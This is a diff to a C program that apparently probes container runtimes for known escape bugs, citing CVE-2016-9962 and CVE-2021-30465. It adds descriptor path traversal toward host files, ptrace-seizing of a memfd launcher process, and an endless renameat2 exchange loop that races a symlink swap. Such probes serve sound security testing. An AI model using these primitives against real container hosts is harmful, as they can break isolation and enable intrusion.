@@ -97,6 +97,27 @@ static int overwrite(int seconds) {
   return 0;
 }
 
+/* What a descriptor is, and whether something of the host lies above it. */
+static void report_once(const char *path, const char *target) {
+  static char known[64][256];
+  char kind[256], up[700];
+  size_t length = strcspn(target, "[0123456789");
+  snprintf(kind, sizeof kind, "%.*s", *target == '/' ? 255 : (int)length, target);
+  for (int i = 0; i < 64; i++) {
+    if (!strcmp(known[i], kind)) return;
+    if (*known[i]) continue;
+    snprintf(known[i], sizeof known[i], "%s", kind);
+    break;
+  }
+  printf("descriptor %s\n", target);
+  for (int depth = 1; depth < 12; depth++) {
+    snprintf(up, sizeof up, "%s/%.*sproc/self/exe", path, 3 * depth, "../../../../../../../../../../../../");
+    if (access(up, F_OK) == 0) printf("host %s\n", up);
+    snprintf(up, sizeof up, "%s/%.*ssupervisors", path, 3 * depth, "../../../../../../../../../../../../");
+    if (access(up, F_OK) == 0) printf("host %s\n", up);
+  }
+}
+
 static int look_at_descriptors(const char *pid) {
   char path[600], target[4096];
   int seen = 0;
@@ -110,10 +131,30 @@ static int look_at_descriptors(const char *pid) {
     if (n < 0) continue;
     target[n] = 0;
     seen++;
-    printf("descriptor %s %s\n", entry->d_name, target);
+    report_once(path, target);
   }
   closedir(fds);
   return seen;
+}
+
+static int executes_the_launcher(const char *pid) {
+  char path[300], target[4096];
+  snprintf(path, sizeof path, "/proc/%s/exe", pid);
+  ssize_t n = readlink(path, target, sizeof target - 1);
+  target[n < 0 ? 0 : n] = 0;
+  return strstr(target, "memfd") != NULL;
+}
+
+/* In execve(2) a process can be attached to once it has its new program and credentials: that is no hole. */
+static int attach_to_launcher(const char *pid) {
+  return ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0 && executes_the_launcher(pid);
+}
+
+/* A tracer must wait for what it traces, or the real parent never sees the end. */
+static void release_traced(void) {
+  int status;
+  for (pid_t pid; (pid = waitpid(-1, &status, WNOHANG | __WALL)) > 0;)
+    if (WIFSTOPPED(status)) ptrace(PTRACE_CONT, pid, 0, 0);
 }
 
 /* CVE-2016-9962: looks into every other process until /stop is there. */
@@ -124,18 +165,12 @@ static int spy(void) {
   while (access("/stop", F_OK) != 0) {
     DIR *proc = opendir("/proc");
     for (struct dirent *entry; (entry = readdir(proc));) {
-      char path[300], target[4096];
       if (!is_process(entry->d_name)) continue;
       looks++;
       seen += look_at_descriptors(entry->d_name);
-      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
-      ssize_t n = readlink(path, target, sizeof target - 1);
-      if (n > 0) {
-        target[n] = 0;
-        launcher += !strstr(target, "probe");
-        continue; /* the program itself runs already */
-      }
-      attached += ptrace(PTRACE_SEIZE, atoi(entry->d_name), 0, 0) == 0;
+      launcher += executes_the_launcher(entry->d_name);
+      attached += attach_to_launcher(entry->d_name);
+      release_traced();
     }
     closedir(proc);
   }
@@ -181,12 +216,19 @@ static int wait_for_signal(void) {
   return 0;
 }
 
+/* CVE-2021-30465: exchanges two names for ever. */
+static int swap(const char *one, const char *two) {
+  for (;;)
+    if (renameat2(AT_FDCWD, one, AT_FDCWD, two, RENAME_EXCHANGE) < 0) return report("swap", -1);
+}
+
 int main(int count, char **arguments) {
   const char *what = count > 1 ? arguments[1] : "true";
   if (!strcmp(what, "true")) return 0;
   if (!strcmp(what, "descriptors")) return descriptors();
   if (!strcmp(what, "user")) return user();
   if (!strcmp(what, "calls")) return calls();
+  if (!strcmp(what, "swap")) return swap(arguments[2], arguments[3]);
   if (!strcmp(what, "keyring")) return keyring();
   if (!strcmp(what, "overwrite")) return overwrite(atoi(arguments[2]));
   if (!strcmp(what, "spy")) return spy();
